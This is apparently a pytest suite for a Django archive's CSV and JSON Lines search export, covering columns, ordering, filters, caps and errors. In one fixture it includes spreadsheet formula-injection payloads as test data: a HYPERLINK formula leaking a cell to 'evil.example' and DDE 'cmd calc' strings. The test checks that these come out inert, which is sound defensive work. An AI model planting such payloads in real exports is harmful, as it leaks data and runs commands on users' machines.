"""Exporting a search: the same hits as the page, streamed, capped, and inert in a spreadsheet."""

import csv
import io
import json
from pathlib import Path

import pytest
from django.http import QueryDict

from archive.forms import SearchForm
from archive.models import DatePrecision, Source
from archive.search.outbox import drain_all
from archive.search.service import search
from archive.search.stream import iter_hits
from archive.search.whoosh.searcher import snapshots
from tests.factories import make_actor, make_article, make_source

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
INJECTIONS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "author": "@SUM(1+1)*cmd|' /C calc'!A0",
    "lede": "\t=1+1",
    "body": "+CMD|'/c calc'!A1 and then text about nato",
}


@pytest.fixture
def archive():
    lavrov = make_actor("Sergey Lavrov", kind="person")
    nato = make_actor("NATO")
    ministry = make_source("Ministry of Foreign Affairs of Russia", kind=Source.Kind.MINISTRY)
    news = make_source("Yle News", kind=Source.Kind.NEWS)
    articles = {
        "lavrov_en": make_article("Lavrov on NATO expansion", "Lavrov spoke about NATO and security guarantees.",
                                  source=ministry, date="2021-12-17", actors=[lavrov, nato], author="Press service",
                                  url="https://mid.ru/en/1"),
        "lavrov_ru": make_article("Лавров о НАТО", "Лавров говорил о НАТО и гарантиях безопасности.", source=ministry,
                                  language="ru", date="2022-01-10", actors=[lavrov, nato]),
        "yle": make_article("NATO meets in Riga", "Foreign ministers of NATO met in Riga.", source=news,
                            date="2021-12-01", precision=DatePrecision.MONTH, actors=[nato]),
        "old": make_article("NATO in 2019", "An older text on NATO.", source=news, date="2019-05-02"),
    }  # fmt: skip
    drain_all()
    return articles


def streamed(response):
    assert response.status_code == 200, response
    return b"".join(response.streaming_content).decode("utf-8")


def csv_rows(response):
    text = streamed(response)
    assert text.startswith("\ufeff")  # spreadsheets need the mark to read UTF-8
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def page_titles(query):
    results = search(SearchForm(QueryDict(query)).search_request())
    return [hit.article.title for hit in results[: results.count]]


@pytest.mark.parametrize("query", ["q=nato", "q=nato&sort=oldest", "lang=en&sort=newest", "actor=sergey-lavrov"])
def test_csv_holds_the_search_pages_hits_in_its_order(client, archive, query):
    rows = csv_rows(client.get(f"/search/export.csv?{query}"))
    assert [row["title"] for row in rows] == page_titles(query)


def test_csv_has_the_documented_columns(client, archive):
    rows = csv_rows(client.get("/search/export.csv", {"q": "lavrov", "lang": "en"}))
    assert list(rows[0]) == [
        "title", "source", "author", "date", "date_precision", "language", "actors", "url", "permalink",
        "content_hash", "snippet",
    ]  # fmt: skip
    [row] = rows
    article = archive["lavrov_en"]
    assert row["source"] == "Ministry of Foreign Affairs of Russia" and row["author"] == "Press service"
    assert row["date"] == "2021-12-17" and row["date_precision"] == "day" and row["language"] == "en"
    assert row["actors"] == "NATO; Sergey Lavrov" or row["actors"] == "Sergey Lavrov; NATO"
    assert row["url"] == "https://mid.ru/en/1"
    assert row["permalink"] == f"http://testserver/articles/{article.pk}/"
    assert row["content_hash"] == article.content_hash
    assert "Lavrov spoke" in row["snippet"] and "<mark>" not in row["snippet"]


def test_full_text_is_added_on_request(client, archive):
    rows = csv_rows(client.get("/search/export.csv", {"q": "riga", "full_text": "1"}))
    assert rows[0]["body"] == "Foreign ministers of NATO met in Riga." and "lede" in rows[0]
    assert "body" not in csv_rows(client.get("/search/export.csv", {"q": "riga"}))[0]


def test_jsonl_carries_the_same_records(client, archive):
    response = client.get("/search/export.jsonl", {"q": "нато"})
    assert response["Content-Type"].startswith("application/x-ndjson")
    records = [json.loads(line) for line in streamed(response).splitlines()]
    assert [record["title"] for record in records] == ["Лавров о НАТО"]
    assert records[0]["actors"] == ["NATO", "Sergey Lavrov"] or records[0]["actors"] == ["Sergey Lavrov", "NATO"]
    assert records[0]["date"] == "2022-01-10" and records[0]["language"] == "ru"


def test_filters_and_dates_narrow_the_export(client, archive):
    rows = csv_rows(client.get("/search/export.csv", {"kind": "news", "date_from": "2021", "date_to": "2021-12"}))
    assert [row["title"] for row in rows] == ["NATO meets in Riga"]
    assert rows[0]["date"] == "2021-12" and rows[0]["date_precision"] == "month"


def test_an_injection_probe_comes_out_inert(client):
    make_article(**INJECTIONS, source=make_source("-2+3 News"))
    drain_all()
    rows = csv_rows(client.get("/search/export.csv", {"q": "nato", "full_text": "1"}))
    [row] = rows
    for value in row.values():
        assert not value.startswith(FORMULA_STARTS), value
    assert row["title"] == "'" + INJECTIONS["title"]
    assert row["author"] == "'" + INJECTIONS["author"]
    assert row["lede"] == "'" + INJECTIONS["lede"]
    assert row["body"] == "'" + INJECTIONS["body"]
    assert row["source"] == "'-2+3 News"
    # JSON Lines is data, not a spreadsheet: the text is kept exactly.
    [record] = [json.loads(line) for line in streamed(client.get("/search/export.jsonl?q=nato")).splitlines()]
    assert record["title"] == INJECTIONS["title"]


def test_the_cap_is_stated_when_reached(client, archive, settings):
    settings.ARCHIVE_EXPORT_CAP = 2
    response = client.get("/search/export.csv", {"q": "nato", "sort": "newest"})
    assert response["X-Export-Total"] == "4" and response["X-Export-Rows"] == "2"
    assert response["X-Export-Truncated"] == "the first 2 of 4 hits"
    assert [row["title"] for row in csv_rows(response)] == page_titles("q=nato&sort=newest")[:2]
    html = client.get("/search/", {"q": "nato"}).content.decode()
    assert "Export the first 2 of 4 hits" in html and "more hits than one export holds" in html


def test_the_search_page_links_exports_with_its_filters(client, archive):
    html = client.get("/search/", {"q": "nato", "lang": "en", "page": "1"}).content.decode()
    assert 'href="/search/export.csv?q=nato&amp;lang=en"' in html
    assert 'href="/feeds/search/?q=nato&amp;lang=en"' in html
    assert "Export all 3 hits" in html


def test_hits_are_read_in_batches_not_all_at_once(archive, django_assert_num_queries):
    results = search(SearchForm(QueryDict("q=nato&sort=oldest")).search_request())
    with django_assert_num_queries(4):  # two batches of two: the articles, then their actors
        hits = list(iter_hits(results, limit=100, batch_size=2))
    assert [hit.article.title for hit in hits] == page_titles("q=nato&sort=oldest")


def test_a_query_over_the_limits_is_refused_with_a_message(client, archive):
    response = client.get("/search/export.csv", {"q": "ab*"})
    assert response.status_code == 400
    assert response.content.decode().startswith("Nothing exported:")


def test_a_bad_date_is_refused_rather_than_ignored(client, archive):
    response = client.get("/search/export.jsonl", {"q": "nato", "date_from": "last week"})
    assert response.status_code == 400 and "date_from" in response.content.decode()


def test_an_unknown_format_is_a_404_and_a_post_a_405(client, archive):
    assert client.get("/search/export.xlsx", {"q": "nato"}).status_code == 404
    assert client.post("/search/export.csv?q=nato").status_code == 405
    assert client.head("/search/export.csv?q=nato").status_code == 200


def test_an_unreadable_index_answers_503(client, archive, search_index):
    for toc in Path(search_index.path).rglob("*.toc"):  # every index generation
        toc.write_bytes(b"not an index")
    snapshots.clear()
    response = client.get("/search/export.csv", {"q": "nato"})
    assert response.status_code == 503 and "unavailable" in response.content.decode()
